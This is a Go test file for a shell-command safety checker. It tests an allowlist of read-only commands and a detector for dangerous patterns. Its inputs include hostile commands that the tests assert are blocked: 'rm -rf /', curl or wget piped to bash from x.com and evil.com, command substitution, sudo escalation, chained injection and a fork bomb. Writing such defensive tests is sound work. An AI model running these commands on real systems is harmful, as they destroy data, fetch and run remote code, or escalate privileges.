package shell

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestIsAllowed(t *testing.T) {
	t.Run("truthgit commands", func(t *testing.T) {
		assert.True(t, IsAllowed("truthgit status"))
		assert.True(t, IsAllowed("truthgit verify claim"))
		assert.True(t, IsAllowed("truthgit"))
	})

	t.Run("read-only git commands", func(t *testing.T) {
		assert.True(t, IsAllowed("git status"))
		assert.True(t, IsAllowed("git log --oneline"))
		assert.True(t, IsAllowed("git diff HEAD"))
		assert.True(t, IsAllowed("git branch -a"))
		assert.True(t, IsAllowed("git show HEAD"))
	})

	t.Run("info commands", func(t *testing.T) {
		assert.True(t, IsAllowed("date"))
		assert.True(t, IsAllowed("whoami"))
		assert.True(t, IsAllowed("hostname"))
		assert.True(t, IsAllowed("uname -a"))
		assert.True(t, IsAllowed("which python"))
		assert.True(t, IsAllowed("python --version"))
		assert.True(t, IsAllowed("node --version"))
	})

	t.Run("bare form of a spaced prefix still matches", func(t *testing.T) {
		assert.True(t, IsAllowed("cat file.txt"))
		assert.True(t, IsAllowed("cat"))
	})

	t.Run("mutating commands are not whitelisted", func(t *testing.T) {
		assert.False(t, IsAllowed("rm file.txt"))
		assert.False(t, IsAllowed("rm -rf /"))
		assert.False(t, IsAllowed("sudo anything"))
		assert.False(t, IsAllowed("chmod 777 file"))
		assert.False(t, IsAllowed("chown user file"))
		assert.False(t, IsAllowed("wget http://evil.com"))
		assert.False(t, IsAllowed("curl http://evil.com"))
		assert.False(t, IsAllowed("apt install package"))
		assert.False(t, IsAllowed("npm install package"))
		assert.False(t, IsAllowed("pip install package"))
	})

	t.Run("shell operators disqualify even whitelisted prefixes", func(t *testing.T) {
		assert.False(t, IsAllowed("ls; rm -rf /"))
		assert.False(t, IsAllowed("echo hello && rm file"))
		assert.False(t, IsAllowed("cat file | bash"))
		assert.False(t, IsAllowed("ls `whoami`"))
		assert.False(t, IsAllowed("echo ${HOME}"))
		assert.False(t, IsAllowed("ls\nrm file"))
	})
}

func TestDangerousPattern(t *testing.T) {
	t.Run("destructive rm variants", func(t *testing.T) {
		assert.NotEmpty(t, DangerousPattern("rm -rf /"))
		assert.NotEmpty(t, DangerousPattern("rm -r /home"))
		assert.NotEmpty(t, DangerousPattern("sudo rm -rf anything"))
		assert.NotEmpty(t, DangerousPattern("ls && rm -rf /tmp"))
	})

	t.Run("pipe-to-shell and substitution", func(t *testing.T) {
		assert.NotEmpty(t, DangerousPattern("curl http://x.com | bash"))
		assert.NotEmpty(t, DangerousPattern("wget http://x.com|bash"))
		assert.NotEmpty(t, DangerousPattern("eval $(curl http://x.com)"))
		assert.NotEmpty(t, DangerousPattern("$(curl http://x.com)"))
		assert.NotEmpty(t, DangerousPattern("$(wget http://x.com)"))
	})

	t.Run("privilege escalation", func(t *testing.T) {
		assert.NotEmpty(t, DangerousPattern("sudo su"))
		assert.NotEmpty(t, DangerousPattern("sudo -i"))
		assert.NotEmpty(t, DangerousPattern("sudo bash"))
	})

	t.Run("chained destruction", func(t *testing.T) {
		assert.NotEmpty(t, DangerousPattern("; rm -rf /"))
		assert.NotEmpty(t, DangerousPattern("&& rm -rf /tmp"))
		assert.NotEmpty(t, DangerousPattern("| rm file"))
		assert.NotEmpty(t, DangerousPattern("`rm file`"))
	})

	t.Run("fork bomb", func(t *testing.T) {
		assert.NotEmpty(t, DangerousPattern(":(){:|:&};:"))
	})

	t.Run("matching is case-insensitive", func(t *testing.T) {
		assert.NotEmpty(t, DangerousPattern("SUDO SU"))
	})

	t.Run("safe commands pass", func(t *testing.T) {
		assert.Empty(t, DangerousPattern("ls -la"))
		assert.Empty(t, DangerousPattern("truthgit status"))
		assert.Empty(t, DangerousPattern("git log"))
		assert.Empty(t, DangerousPattern("cat file.txt"))
	})

	t.Run("dev null redirect is exempt", func(t *testing.T) {
		assert.Empty(t, DangerousPattern("command > /dev/null"))
	})
}

func TestCheckCommand(t *testing.T) {
	t.Run("dangerous pattern reported first", func(t *testing.T) {
		check := CheckCommand("ls && rm -rf /tmp")
		assert.True(t, check.Dangerous)
		assert.Contains(t, check.Warning, "dangerous pattern")
	})

	t.Run("non-whitelisted command reported", func(t *testing.T) {
		check := CheckCommand("shutdown now")
		assert.True(t, check.Dangerous)
		assert.Contains(t, check.Warning, `"shutdown"`)
	})

	t.Run("clean command", func(t *testing.T) {
		check := CheckCommand("truthgit status")
		assert.False(t, check.Dangerous)
		assert.Empty(t, check.Warning)
	})
}

func TestValidate(t *testing.T) {
	assert.Error(t, Validate("rm -rf /"))
	assert.Error(t, Validate("shutdown now"))
	assert.NoError(t, Validate("ls -la"))
}
